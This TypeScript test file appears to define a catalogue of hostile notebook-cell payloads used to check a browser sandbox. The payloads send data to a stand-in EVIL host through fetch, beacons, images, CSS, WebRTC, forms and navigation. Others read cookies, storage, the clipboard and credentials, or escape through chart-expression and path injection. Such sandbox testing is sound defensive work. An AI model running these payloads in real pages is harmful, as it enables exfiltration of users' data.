/**
 * What a hostile cell may try. Each attack is the body of an async function, run as it stands in a cell of a notebook and, as a control, in
 * a frame without any policy. `EVIL` is an address of its own outside, so that whatever arrives there is known by its attack; `OWN` is
 * our server. A text that begins with GOT says that the cell holds what it should not.
 */
export interface Attack {
  readonly name: string;
  readonly code: string;
  /** It replaces or disturbs its document: it gets a page of its own. */
  readonly alone?: true;
  /** How it gets out where no policy stops it; left out where the browser needs more than a bare page (https, a gesture, a permission). */
  readonly control?: 'request' | 'packet' | 'value';
  /** A blocked navigation: Chromium opens the connection before it asks the policy (docs/sandbox.md). */
  readonly connects?: true;
  /** Uses what cells are given: there is nothing of it on a bare page. */
  readonly builtins?: true;
}

const wait = (ms: number) => `await new Promise((done) => setTimeout(done, ${ms}));`;
/** An element with these properties, put into the page. */
const put = (tag: string, properties: string, more = '') =>
  `const it = Object.assign(document.createElement('${tag}'), ${properties}); ${more} document.body.append(it); ${wait(400)}`;
const markup = (html: string) =>
  `const it = document.createElement('div'); it.innerHTML = \`${html}\`; document.body.append(it); ${wait(400)}`;
const css = (text: string) =>
  `const it = document.createElement('style'); it.textContent = \`${text}\`; document.head.append(it); const box = document.createElement('div'); box.className = 'q'; box.textContent = 'q'; document.body.append(box); ${wait(500)}`;
const link = (rel: string, more = '') =>
  `const it = Object.assign(document.createElement('link'), { rel: '${rel}', href: EVIL + '/link' ${more} }); document.head.append(it); ${wait(500)}`;

const request: readonly Attack[] = [
  { name: 'fetch', control: 'request', code: `await fetch(EVIL + '/?d=1')` },
  { name: 'fetch without CORS', control: 'request', code: `await fetch(EVIL, { mode: 'no-cors', keepalive: true })` },
  { name: 'fetch from our own server', control: 'value', code: `return 'GOT ' + (await fetch(OWN + '/api/municipalities?cell')).status` },
  { name: 'fetch later', code: `fetchLater(EVIL, { activateAfter: 0 }); ${wait(300)}` },
  {
    name: 'XMLHttpRequest',
    control: 'request',
    code: `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', EVIL); x.onload = done; x.onerror = () => fail(new Error('error')); x.send(); })`,
  },
  { name: 'XMLHttpRequest, synchronous', control: 'request', code: `const x = new XMLHttpRequest(); x.open('GET', EVIL, false); x.send()` },
  { name: 'WebSocket', control: 'request', code: `new WebSocket(EVIL.replace('http', 'ws')); ${wait(300)}` },
  { name: 'WebSocketStream', code: `await new WebSocketStream(EVIL.replace('http', 'ws')).opened` },
  { name: 'EventSource', control: 'request', code: `new EventSource(EVIL); ${wait(300)}` },
  { name: 'beacon', control: 'request', code: `navigator.sendBeacon(EVIL, 'd'); ${wait(300)}` },
  { name: 'WebTransport', control: 'packet', code: `await new WebTransport(EVIL.replace('http:', 'https:')).ready` },
  { name: 'image', control: 'request', code: `new Image().src = EVIL + '/?d=secret'; ${wait(300)}` },
  {
    name: 'image from our own server',
    control: 'value',
    code: `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error('error')); i.src = OWN + '/favicon.ico?cell' }); return 'GOT image'`,
  },
  {
    name: 'srcset and picture',
    control: 'request',
    code: markup('<picture><source srcset="${EVIL}/a"><img srcset="${EVIL}/b 1x"></picture>'),
  },
  { name: 'image in markup with an error handler', control: 'request', code: markup('<img src="data:x" onerror="fetch(\'${EVIL}\')">') },
  { name: 'lazy and attribution image', control: 'request', code: put('img', `{ attributionSrc: EVIL + '/a', src: EVIL + '/b' }`) },
  {
    name: 'attribution link',
    code: put('a', `{ href: '#', attributionSrc: EVIL }`, `it.setAttribute('attributionsrc', EVIL);`) + 'it.click();' + wait(200),
  },
  { name: 'SVG image', control: 'request', code: markup('<svg><image href="${EVIL}/image"/></svg>') },
  { name: 'SVG use', code: markup('<svg><use href="${EVIL}/use.svg#a"/></svg>') },
  {
    name: 'SVG filter image',
    control: 'request',
    code: markup(
      '<svg width="9" height="9"><filter id="f"><feImage href="${EVIL}/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    ),
  },
  {
    name: 'SVG script',
    code: `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), x = document.createElementNS('http://www.w3.org/2000/svg', 'script'); x.setAttribute('href', EVIL + '/s.js'); s.append(x); document.body.append(s); ${wait(300)}`,
    control: 'request',
  },
  { name: 'input image', control: 'request', code: put('input', `{ type: 'image', src: EVIL }`) },
  { name: 'background attribute', control: 'request', code: markup('<table background="${EVIL}/table"><tr><td>1</td></tr></table>') },
  { name: 'CSS background', control: 'request', code: css('.q { background: url(${EVIL}/css?d=secret) }') },
  {
    name: 'CSS by value of an attribute',
    control: 'request',
    code: css('div[class^="q"] { background-image: image-set("${EVIL}/set" 1x) }'),
  },
  { name: 'CSS import', control: 'request', code: css('@import url("${EVIL}/import.css");') },
  { name: 'CSS font', control: 'request', code: css('@font-face { font-family: q; src: url(${EVIL}/font) } .q { font-family: q }') },
  {
    name: 'CSS cursor, list, mask, border, content',
    control: 'request',
    code: css(
      '.q { cursor: url(${EVIL}/c), auto; display: list-item; list-style-image: url(${EVIL}/l); mask-image: url(${EVIL}/m); border-image: url(${EVIL}/b) 1 } .q::before { content: url(${EVIL}/t) }',
    ),
  },
  { name: 'CSS filter of another document', code: css('.q { filter: url(${EVIL}/f.svg#a); clip-path: url(${EVIL}/c.svg#a) }') },
  {
    name: 'constructed style sheet',
    control: 'request',
    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + EVIL + '/sheet) }'); document.adoptedStyleSheets = [sheet]; ${wait(400)}`,
  },
  {
    name: 'style attribute',
    control: 'request',
    code: `document.documentElement.style.backgroundImage = 'url(' + EVIL + ')'; ${wait(400)}`,
  },
  { name: 'FontFace', control: 'request', code: `await new FontFace('z', 'url(' + EVIL + ')').load()` },
  { name: 'link stylesheet', control: 'request', code: link('stylesheet') },
  { name: 'link prefetch', control: 'request', code: link('prefetch') },
  { name: 'link preload', control: 'request', code: link('preload', `, as: 'image'`) },
  { name: 'link modulepreload', control: 'request', code: link('modulepreload') },
  { name: 'link prerender', code: link('prerender') },
  { name: 'link preconnect', code: link('preconnect') },
  { name: 'link dns-prefetch', code: link('dns-prefetch') },
  { name: 'link icon and manifest', code: link('icon') + `it.rel = 'manifest'; ${wait(200)}` },
  {
    name: 'link expect, search, pingback, dictionary',
    code: `for (const rel of ['search', 'pingback', 'compression-dictionary', 'alternate stylesheet', 'apple-touch-icon', 'monetization', 'next']) document.head.append(Object.assign(document.createElement('link'), { rel, href: EVIL + '/' + rel })); ${wait(400)}`,
  },
  {
    name: 'speculation rules, prefetch and prerender',
    code: `const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + '/a'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [EVIL + '/b'] }] }); document.head.append(it); ${wait(400)}`,
  },
  { name: 'import of an address', control: 'request', code: `await import(EVIL + '/module.js')` },
  { name: 'import of data', control: 'value', code: `await import('data:text/javascript,export default 1'); return 'GOT a module'` },
  {
    name: 'import of a blob',
    control: 'value',
    code: `await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); return 'GOT a module'`,
  },
  {
    name: 'import map',
    code: `const it = document.createElement('script'); it.type = 'importmap'; it.textContent = JSON.stringify({ imports: { x: EVIL + '/x.js' } }); document.head.append(it); await import('x')`,
  },
  {
    name: 'script',
    control: 'request',
    code: `const it = document.createElement('script'); it.src = EVIL + '/s.js'; document.head.append(it); ${wait(300)}`,
  },
  {
    name: 'inline script',
    control: 'value',
    code: `const it = document.createElement('script'); it.textContent = 'window.inline = 1'; document.head.append(it); ${wait(100)} return window.inline ? 'GOT it run' : 'nothing'`,
  },
  {
    name: 'worker from a blob',
    control: 'request',
    code: `new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "')"]))); ${wait(400)}`,
  },
  { name: 'worker from data', code: `new Worker("data:text/javascript,fetch('" + EVIL + "')"); ${wait(400)}` },
  { name: 'shared worker', code: `new SharedWorker("data:text/javascript,fetch('" + EVIL + "')"); ${wait(400)}` },
  { name: 'service worker', control: 'value', code: `await navigator.serviceWorker.getRegistrations(); return 'GOT registrations'` },
  {
    name: 'paint and audio worklets',
    code: `await Promise.any([new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(EVIL + '/a.js'), CSS.paintWorklet?.addModule(EVIL + '/p.js')])`,
    control: 'request',
  },
  { name: 'frame', control: 'request', connects: true, code: put('iframe', `{ src: EVIL + '/?d=secret' }`) },
  {
    name: 'frame of our own server',

    code: put('iframe', `{ src: OWN + '/?cell' }`) + `return it.contentDocument?.body ? 'GOT a page' : 'nothing'`,
  },
  {
    name: 'frame with a document of its own',
    control: 'request',
    code: put(
      'iframe',
      '{ srcdoc: `<img src="${EVIL}/img"><style>@import "${EVIL}/css"</style><script>new Image().src = "${EVIL}/js"</scr` + `ipt>` }',
    ),
  },
  { name: 'frame with a script address', control: 'request', code: put('iframe', '{ src: `javascript:fetch("${EVIL}")` }') },
  { name: 'frame from data', control: 'request', code: put('iframe', '{ src: `data:text/html,<img src="${EVIL}/img">` }') },
  {
    name: 'frame from a blob',
    control: 'request',
    code: put('iframe', '{ src: URL.createObjectURL(new Blob([`<img src="${EVIL}/img">`], { type: "text/html" })) }'),
  },
  { name: 'realm of a child frame', control: 'request', code: put('iframe', '{}') + `await it.contentWindow.fetch(EVIL)` },
  {
    name: 'child frame with wider rights',
    control: 'value',
    code:
      put('iframe', `{ sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups', srcdoc: '<p>x</p>' }`) +
      `return 'GOT ' + it.contentDocument.body.textContent`,
  },
  { name: 'fenced frame', code: put('fencedframe', '{}', 'it.config = new FencedFrameConfig(EVIL);') },
  {
    name: 'frameset',
    connects: true,
    code:
      markup('<frameset><frame src="${EVIL}"></frameset>') +
      `document.body.append(Object.assign(document.createElement('frame'), { src: EVIL })); ${wait(300)}`,
  },
  { name: 'object', control: 'request', code: put('object', `{ data: EVIL }`) },
  { name: 'embed', control: 'request', code: put('embed', `{ src: EVIL }`) },
  {
    name: 'video, poster and track',
    control: 'request',
    code: markup('<video autoplay muted src="${EVIL}/video" poster="${EVIL}/poster"><track default src="${EVIL}/track"></video>'),
  },
  { name: 'audio', control: 'request', code: `new Audio(EVIL).play(); ${wait(300)}` },
  {
    name: 'media session artwork',
    code: `navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: EVIL }] }); navigator.mediaSession.playbackState = 'playing'; ${wait(300)}`,
  },
  { name: 'ping', code: put('a', `{ href: '#', ping: EVIL }`) + `it.click(); ${wait(300)}`, control: 'request' },
  { name: 'form', alone: true, control: 'request', code: put('form', `{ action: EVIL, method: 'post' }`) + `it.submit(); ${wait(500)}` },
  {
    name: 'form into the top',
    alone: true,
    control: 'request',
    code: put('form', `{ action: EVIL, target: '_top' }`) + `it.submit(); ${wait(500)}`,
  },
  {
    name: 'button with its own action',
    alone: true,
    control: 'request',
    code:
      markup('<form><button formaction="${EVIL}" formmethod="post">go</button></form>') +
      `it.querySelector('button').click(); ${wait(500)}`,
  },
  {
    name: 'policy by meta with a report address',
    code: `for (const rule of ["img-src 'none'; report-uri " + EVIL, 'report-to x']) { const it = document.createElement('meta'); it.httpEquiv = 'Content-Security-Policy'; it.content = rule; document.head.append(it) } new Image().src = 'data:image/gif,x'; ${wait(300)}`,
  },
  {
    name: 'base address',
    alone: true,
    code:
      put('base', '{ href: EVIL }') +
      `new Image().src = 'x.png'; ${wait(300)} return document.baseURI.startsWith(EVIL) ? 'GOT a base' : 'nothing'`,
    control: 'request',
  },
  {
    name: 'manifest, XSLT and XML entities',
    code: `const x = new DOMParser().parseFromString('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + EVIL + '"?><!DOCTYPE a [<!ENTITY b SYSTEM "' + EVIL + '">]><a>&b;</a>', 'text/xml'); document.body.append(document.adoptNode(x.documentElement)); ${wait(300)}`,
  },
  {
    name: 'ad auctions, shared storage, federated sign-in, payment',
    code: `const s = EVIL.replace('http:', 'https:'); const tried = [() => navigator.runAdAuction({ seller: s, decisionLogicURL: s + '/d.js', interestGroupBuyers: [s] }), () => navigator.joinAdInterestGroup({ owner: s, name: 'x', biddingLogicURL: s + '/b.js' }, 9), () => sharedStorage.worklet.addModule(s + '/w.js'), () => navigator.credentials.get({ identity: { providers: [{ configURL: EVIL + '/fedcm.json', clientId: '1' }] } }), () => new PaymentRequest([{ supportedMethods: s }], { total: { label: 'x', amount: { currency: 'SEK', value: '1' } } }).canMakePayment(), () => document.hasPrivateToken(s), () => new PresentationRequest([s]).start()]; const got = []; for (const one of tried) try { await Promise.race([one(), new Promise((done) => setTimeout(done, 150))]); got.push(1) } catch { got.push(0) } return got.join('')`,
  },
];

const navigation: readonly Attack[] = [
  {
    name: 'meta refresh',
    alone: true,
    control: 'request',
    connects: true,
    code: put('meta', `{ httpEquiv: 'refresh', content: '0;url=' + EVIL }`) + wait(600),
  },
  { name: 'navigating itself', alone: true, control: 'request', connects: true, code: `location.href = EVIL + '/?d=secret'; ${wait(600)}` },
  {
    name: 'navigating itself by a link',
    alone: true,
    control: 'request',
    connects: true,
    code: put('a', `{ href: EVIL }`) + `it.click(); ${wait(600)}`,
  },
  {
    name: 'navigating itself to a document of its own',
    alone: true,
    code: `location.href = 'data:text/html,<script>new Image().src="' + EVIL + '"</scr' + 'ipt>'; ${wait(400)}`,
  },
  {
    name: 'navigating itself to a blob',
    alone: true,
    control: 'request',
    code: `location.href = URL.createObjectURL(new Blob(['<img src="' + EVIL + '">'], { type: 'text/html' })); ${wait(600)}`,
  },
  {
    name: 'navigating itself to a script',
    alone: true,
    control: 'request',
    code: `location.href = "javascript:void(new Image().src='" + EVIL + "')"; ${wait(400)}`,
  },
  {
    name: 'navigating itself to our data',
    alone: true,
    control: 'request',
    // What was asked for just before may go with the document that is left.
    code: `new Image().src = EVIL; ${wait(200)}; location.href = OWN + '/api/municipalities?cell'; ${wait(500)}`,
  },
  {
    name: 'writing its document anew',
    alone: true,
    control: 'request',
    code: `document.open(); document.write('<img src="' + EVIL + '/a"><script>new Image().src="' + EVIL + '/b"</scr' + 'ipt>'); document.close(); ${wait(400)}`,
  },
  { name: 'loading itself again', alone: true, code: `new Image().src = EVIL; ${wait(200)}; location.reload(); ${wait(500)}` },
  { name: 'navigating the page', alone: true, control: 'request', code: `top.location = EVIL + '/?d=secret'; ${wait(500)}` },
  {
    name: 'navigating the page by a link',
    alone: true,
    control: 'request',
    code: put('a', `{ href: EVIL, target: '_top' }`) + `it.click(); ${wait(500)}`,
  },
  { name: 'going back in the history of the page', alone: true, code: `history.go(-1); history.back(); ${wait(500)}` },
  { name: 'popup', control: 'request', code: `open(EVIL); ${wait(300)}` },
  {
    name: 'popup by a link',
    control: 'request',
    code: put('a', `{ href: EVIL, target: '_blank', rel: 'opener' }`) + `it.click(); ${wait(300)}`,
  },
  {
    name: 'download by a link',
    alone: true,
    control: 'request',
    code: put('a', `{ href: EVIL + '/file', download: 'x.html' }`) + `it.click(); ${wait(300)}`,
  },
  {
    name: 'download of a blob',
    alone: true,
    code: put('a', `{ href: URL.createObjectURL(new Blob(['x'])), download: 'x.html' }`) + `it.click(); ${wait(500)}`,
  },
  {
    name: 'other programs by their address',
    code: `for (const address of ['mailto:x@example.invalid?body=secret', 'tel:112', 'ms-word:ofe|u|' + EVIL]) { const it = document.createElement('a'); it.href = address; it.target = '_top'; document.body.append(it); it.click() } ${wait(300)}`,
  },
];

const stun = `const it = new RTC({ iceServers: [{ urls: 'stun:' + EVIL.slice(7) }] }); it.createDataChannel('x'); await it.setLocalDescription(await it.createOffer()); ${wait(700)}`;
const packet: readonly Attack[] = [
  { name: 'WebRTC', control: 'packet', code: `const RTC = RTCPeerConnection; ${stun}` },
  { name: 'WebRTC by its old name', control: 'packet', code: `const RTC = window['webkit' + 'RTCPeerConnection']; ${stun}` },
  {
    name: 'WebRTC from a child frame',
    control: 'packet',
    code:
      `const box = document.body.appendChild(document.createElement('iframe')); ${wait(200)}` +
      `const RTC = box.contentWindow.RTCPeerConnection; ${stun}`,
  },
  { name: 'WebRTC from the page around', control: 'packet', code: `const RTC = parent.RTCPeerConnection; ${stun}` },
  {
    name: 'WebRTC by searching every object for it',
    control: 'packet',
    code: `let RTC; for (const at of [window, self, Window.prototype, Object.getPrototypeOf(Window.prototype), document.defaultView, frames]) for (let o = at; o && !RTC; o = Object.getPrototypeOf(o)) for (const key of Reflect.ownKeys(o)) if (/PeerConnection$/.test(String(key))) RTC = o[key]; ${stun}`,
  },
  {
    name: 'our own script in a child frame, for its realm',
    code: `const own = [...document.scripts].find((one) => one.src).src; const box = document.createElement('iframe'); box.srcdoc = '<main></main><script src="' + own + '"></scr' + 'ipt>'; document.body.append(box); await new Promise((done) => { box.onload = done }); const { port1, port2 } = new MessageChannel(); box.contentWindow.postMessage('port', '*', [port2]); const cell = { id: 1, inputs: [], outputs: [], body: '() => { new RTCPeerConnection({ iceServers: [{ urls: "stun:' + EVIL.slice(7) + '" }] }).createDataChannel("x"); }' }; port1.onmessage = ({ data }) => data; port1.postMessage({ type: 'open', language: 'sv', scheme: 'light', cells: [cell, { ...cell, id: 2, body: '() => { new Image().src = "' + EVIL + '"; fetch("' + EVIL + '") }' }] }); ${wait(800)}`,
  },
];

const value: readonly Attack[] = [
  { name: 'cookies', control: 'value', code: `return 'GOT ' + document.cookie` },
  { name: 'cookie store', code: `return 'GOT ' + (await cookieStore.getAll()).length` },
  { name: 'local storage', control: 'value', code: `localStorage.setItem('cell', '1'); return 'GOT ' + localStorage.length` },
  { name: 'session storage', control: 'value', code: `return 'GOT ' + sessionStorage.length` },
  {
    name: 'IndexedDB',
    control: 'value',
    code: `await new Promise((done, fail) => { const q = indexedDB.open('x'); q.onsuccess = done; q.onerror = () => fail(q.error) }); return 'GOT a database'`,
  },
  { name: 'caches', control: 'value', code: `await caches.open('x'); return 'GOT a cache'` },
  { name: 'file system', control: 'value', code: `await navigator.storage.getDirectory(); return 'GOT a folder'` },
  { name: 'storage buckets and locks', control: 'value', code: `await navigator.locks.request('x', () => {}); return 'GOT a lock'` },
  { name: 'storage access', code: `await document.requestStorageAccess(); return 'GOT access'` },
  { name: 'text of the page', control: 'value', code: `return 'GOT ' + parent.document.body.textContent.length` },
  { name: 'storage of the page', control: 'value', code: `return 'GOT ' + parent.localStorage.length` },
  { name: 'a function of the page', control: 'value', code: `return 'GOT ' + (await parent.fetch('/api/municipalities?cell')).status` },
  { name: 'address of the page', control: 'value', code: `return 'GOT ' + parent.location.href` },
  { name: 'element of the frame', control: 'value', code: `return frameElement ? 'GOT ' + frameElement.tagName : 'nothing'` },
  { name: 'where the page is, by referrer and ancestors', code: `return document.referrer ? 'GOT ' + document.referrer : 'nothing'` },
  { name: 'name of the domain', control: 'value', code: `document.domain = document.domain; return 'GOT ' + parent.document.title.length` },
  { name: 'reading the clipboard', code: `return 'GOT ' + await navigator.clipboard.readText()` },
  { name: 'writing the clipboard', code: `await navigator.clipboard.writeText('x'); return 'GOT it written'` },
  {
    name: 'clipboard by command',
    code: `const it = Object.assign(document.createElement('input'), { value: 'x' }); document.body.append(it); it.select(); return document.execCommand('paste') ? 'GOT it read' : 'nothing'`,
  },
  {
    name: 'dialogs',
    control: 'value',
    code: `const asked = prompt('Password?'); alert(1); print(); return asked === null ? 'nothing' : 'GOT ' + asked`,
  },
  { name: 'full screen', code: `await document.body.requestFullscreen(); return 'GOT the screen'` },
  {
    name: 'pointer lock',
    code: `await document.body.requestPointerLock(); return document.pointerLockElement ? 'GOT the pointer' : 'nothing'`,
  },
  { name: 'picture in picture', code: `await documentPictureInPicture.requestWindow(); return 'GOT a window'` },
  { name: 'place', code: `await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)); return 'GOT a place'` },
  {
    name: 'notifications',
    code: `const answer = await Notification.requestPermission(); return answer === 'granted' ? 'GOT leave' : 'nothing'`,
  },
  {
    name: 'camera, microphone, screen',
    code: `await Promise.any([navigator.mediaDevices.getUserMedia({ video: true }), navigator.mediaDevices.getUserMedia({ audio: true }), navigator.mediaDevices.getDisplayMedia()]); return 'GOT a picture'`,
  },
  {
    name: 'devices',
    code: `const all = ['usb', 'serial', 'hid', 'bluetooth']; await Promise.any(all.map((name) => navigator[name].requestDevice?.({ filters: [] }) ?? navigator[name].requestPort())); return 'GOT a device'`,
  },
  { name: 'speaking aloud', control: 'value', code: `speechSynthesis.speak(new SpeechSynthesisUtterance('secret')); return 'GOT a voice'` },
  {
    name: 'passwords and credentials',
    code: `const found = await navigator.credentials.get({ password: true, mediation: 'silent' }); return found ? 'GOT ' + found.id : 'nothing'`,
  },
  { name: 'files of the reader', code: `await showOpenFilePicker(); return 'GOT a file'` },
  { name: 'protocol handler', code: `navigator.registerProtocolHandler('web+x', EVIL + '/%s'); return 'GOT a handler'` },
  {
    name: 'broadcast',
    control: 'value',
    code: `const it = new BroadcastChannel('motvikt-test'); const heard = new Promise((done) => { it.onmessage = done }); it.postMessage('from a cell'); await Promise.race([heard, new Promise((_, fail) => setTimeout(() => fail(new Error('silence')), 500))]); return 'GOT an answer'`,
  },
  {
    name: 'a second port',
    code: `const ports = []; addEventListener('message', (event) => ports.push(...event.ports)); parent.postMessage({ type: 'ready' }, '*'); ${wait(600)} return ports.length ? 'GOT a port' : 'nothing'`,
  },
];

/** By what we hand to cells ourselves: each of these fetches where it may. */
const builtins: readonly Attack[] = [
  { name: 'html', builtins: true, code: 'document.body.append(html`<img src=${EVIL} alt="">`);' + wait(300) },
  { name: 'md', builtins: true, code: 'document.body.append(md(["![x](" + EVIL + "/a) <img src=" + EVIL + "/b>"]));' + wait(300) },
  {
    name: 'Inputs.table',
    builtins: true,
    code: `document.body.append(Inputs.table([{ a: 1 }], { format: { a: () => Object.assign(new Image(), { src: EVIL }) } })); ${wait(300)}`,
  },
  {
    name: 'Vega: data from an address',
    builtins: true,
    code: `await chart({ data: { url: EVIL + '/data.json' }, mark: 'bar' }); ${wait(300)}`,
  },
  {
    name: 'Vega: image marks',
    builtins: true,
    code: `document.body.append(await chart({ data: { values: [{ u: EVIL }] }, mark: 'image', encoding: { url: { field: 'u' } } })); ${wait(300)}`,
  },
  { name: 'Vega: a spec from an address', builtins: true, code: `await chart(EVIL + '/spec.json')` },
  {
    name: 'Vega: an expression that reaches out',
    builtins: true,
    code: `await chart({ data: { values: [{ a: 1 }] }, mark: 'bar', transform: [{ calculate: "constructor.constructor('fetch(\\\\'" + EVIL + "\\\\')')()", as: 'b' }] }); ${wait(300)}`,
  },
  {
    name: 'Vega: links on marks',
    builtins: true,
    code: `const box = await chart({ data: { values: [{ u: EVIL }] }, mark: 'point', encoding: { href: { field: 'u' } } }); document.body.append(box); box.querySelector('a')?.dispatchEvent(new MouseEvent('click', { bubbles: true })); ${wait(300)}`,
  },
  { name: 'arquero: a file from an address', builtins: true, code: `await aq.loadCSV(EVIL + '/a.csv')` },
  {
    name: 'arquero: an expression that reaches out',
    builtins: true,
    code: `aq.table({ a: [1] }).derive({ b: aq.escape(() => fetch(EVIL)) }); ${wait(300)}`,
  },
  {
    name: 'a script with a hash that a policy could allow',
    control: 'request',
    code: `const it = Object.assign(document.createElement('script'), { src: EVIL + '/s.js', integrity: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=', crossOrigin: 'anonymous' }); document.head.append(it); ${wait(300)}`,
  },
  {
    name: 'our own script, with its hash, from elsewhere',
    control: 'request',
    code: `const own = document.createElement('script'); own.src = EVIL + '/assets/' + (([...document.scripts].find((one) => one.src)?.src ?? '').split('/').at(-1)); document.head.append(own); ${wait(300)}`,
  },
];

/** Over the port, as far as cells have it: nothing that the document does not declare, and nothing of another municipality. */
const port: readonly Attack[] = [
  { name: 'a survey that is not declared', builtins: true, code: `const waves = await released('other'); return 'GOT ' + waves.length` },
  {
    name: 'a survey by a path',
    builtins: true,
    code: `const waves = await released('../../elsewhere/released/open'); return 'GOT ' + waves.length`,
  },
  {
    name: 'a survey by an inherited name',
    builtins: true,
    code: `const waves = await released('__proto__'); return 'GOT ' + waves.length`,
  },
  {
    name: 'surveys that are not declared, in the list',
    builtins: true,
    code: `const found = surveys.filter((one) => one.instrument !== 'open' || one.waves.some(({ wave }) => wave !== '2024')); return found.length ? 'GOT ' + JSON.stringify(found) : 'nothing'`,
  },
  {
    name: 'more of a survey than its names',
    builtins: true,
    code: `return 'state' in surveys[0].waves[0] || 'quality' in surveys[0].waves[0] ? 'GOT ' + JSON.stringify(surveys) : 'nothing'`,
  },
  {
    name: 'the port, while an answer is handled',
    builtins: true,
    code: `await released('open').catch(() => {}); return window.event ? 'GOT ' + window.event.target : 'nothing'`,
  },
  {
    name: 'the port, by replacing what it is used with',
    code: `let got; MessagePort.prototype.postMessage = function () { got = this }; try { Object.defineProperty(MessageEvent.prototype, 'data', { get() { got = this.target } }) } catch {} ${wait(1600)} return got ? 'GOT ' + got : 'nothing'`,
  },
  {
    name: 'the port, by a window message to itself',
    code: `const { port1, port2 } = new MessageChannel(); window.postMessage('port', '*', [port2]); port1.onmessage = () => {}; port1.postMessage({ type: 'open', cells: [] }); ${wait(300)} return 'nothing'`,
  },
];

export const attacks: readonly Attack[] = [...request, ...navigation, ...packet, ...value, ...builtins, ...port];

/** With the rights that a reader's click gives; each is what a button in the notebook does. */
export const onClick: readonly Attack[] = [
  { name: 'a window', code: `return open(EVIL) ? 'GOT a window' : 'nothing'` },
  { name: 'a link to a window', code: put('a', `{ href: EVIL, target: '_blank', rel: 'opener' }`, 'it.click();') },
  { name: 'a download', code: put('a', `{ href: 'data:text/plain,secret', download: 'x.txt' }`, 'it.click();') },
  { name: 'a ping', code: put('a', `{ href: '#', ping: EVIL }`, 'it.click();') },
  { name: 'the page', code: `top.location = EVIL; ${wait(400)}` },
  { name: 'sharing', code: `await navigator.share({ url: EVIL }); return 'GOT it shared'` },
  { name: 'presenting', code: `await new PresentationRequest(EVIL).start(); return 'GOT a screen'` },
  { name: 'full screen', code: `await document.body.requestFullscreen(); return 'GOT the screen'` },
  { name: 'the clipboard', code: `return 'GOT ' + await navigator.clipboard.readText()` },
  {
    name: 'pasting',
    code: `const it = document.body.appendChild(document.createElement('textarea')); it.focus(); return document.execCommand('paste') ? 'GOT ' + it.value : 'nothing'`,
  },
  { name: 'printing', code: `print(); return 'nothing'` },
  { name: 'files', code: `await showOpenFilePicker(); return 'GOT a file'` },
];
